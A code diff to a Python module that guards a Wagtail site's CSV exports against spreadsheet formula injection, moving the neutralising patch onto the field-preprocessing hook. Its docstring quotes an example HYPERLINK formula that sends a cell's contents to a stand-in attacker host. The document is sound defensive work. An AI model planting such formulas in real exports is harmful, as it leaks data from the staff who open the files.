@@ -5,7 +5,7 @@ exports (the admin's listings and reports, ours and Wagtail's own, e.g. site his
 A cell such as ``=HYPERLINK("http://evil.example/?"&A1,"Price list")`` would run as a
 formula when a staff user opens the file. Wagtail turns formulas into text in its XLSX
 exports only; :func:`install` does it for CSV, in the one place every CSV row is written
-(``SpreadsheetExportMixin.write_csv_row``), so no export can be left out.
+(``SpreadsheetExportMixin.preprocess_field_value``, for CSV), so no export can be left out.
 """
 
 from decimal import Decimal
@@ -24,15 +24,14 @@ def neutralise_formula(value):
     return f"'{text}" if text.startswith(FORMULA_STARTS) else value
 
 
-def _write_csv_row(self, writer, row_dict):
-    return writer.writerow(
-        {
-            field: neutralise_formula(self.preprocess_field_value(field, value, self.FORMAT_CSV))
-            for field, value in row_dict.items()
-        }
-    )
+_wagtail_preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
+
+
+def _preprocess_field_value(self, field, value, export_format):
+    value = _wagtail_preprocess_field_value(self, field, value, export_format)
+    return neutralise_formula(value) if export_format == self.FORMAT_CSV else value
 
 
 def install() -> None:
     """Make every CSV export write its cells through :func:`neutralise_formula` (called once, at start-up)."""
-    SpreadsheetExportMixin.write_csv_row = _write_csv_row
+    SpreadsheetExportMixin.preprocess_field_value = _preprocess_field_value
